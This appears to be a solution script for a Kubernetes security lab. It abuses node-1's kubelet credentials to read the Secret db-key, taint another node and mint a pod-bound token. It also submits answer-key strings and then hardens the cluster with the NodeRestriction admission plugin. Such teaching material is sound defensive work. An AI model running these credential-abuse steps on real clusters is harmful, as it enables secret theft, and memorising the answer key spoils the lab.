#!/usr/bin/env bash
# The stolen node: use node-1's key against node-2, then give nodes back their limits.
set -euo pipefail

thief() { minilab exec node-1 -- kubectl --kubeconfig /etc/kubernetes/kubelet.conf "$@"; }

exploit() {
  # Once repaired, the thief is refused: what was earned stays earned.
  local key uid
  if key=$(thief get secret db-key -o 'jsonpath={.data.key}' | base64 -d) && [ -n "$key" ]; then
    thief taint node node-2 stolen=yes:PreferNoSchedule --overwrite
    thief taint node node-2 stolen-
    uid=$(kubectl get pod db -o 'jsonpath={.metadata.uid}')
    thief create token db --bound-object-kind Pod --bound-object-name db --bound-object-uid "$uid" > /dev/null
    minilab lab answer dbkey "$key"
  fi
}

explain() {
  minilab lab answer group system:nodes
  minilab lab answer who-refused "an admission plugin"
  minilab lab answer still-open "read the Secret web-key"
}

harden() { minilab harden node-to-apiserver.restriction; }

by_hand() {
  kubectl delete clusterrolebinding minilab:nodes --ignore-not-found
  minilab exec control -- sh -c '
    cd /etc/kubernetes/manifests
    grep -q NodeRestriction kube-apiserver.yaml ||
      sed -i "/--client-ca-file=/a\    - --enable-admission-plugins=NodeRestriction" kube-apiserver.yaml'
  local said=""
  until [[ $said == *"not allowed to modify taints"* ]]; do
    said=$(thief taint node node-1 stolen=yes:PreferNoSchedule --overwrite 2>&1) || true
    kubectl taint node node-1 stolen- > /dev/null 2>&1 || true
    sleep 0.5
  done
}

for part in "${@:-exploit explain harden}"; do for one in $part; do "$one"; done; done
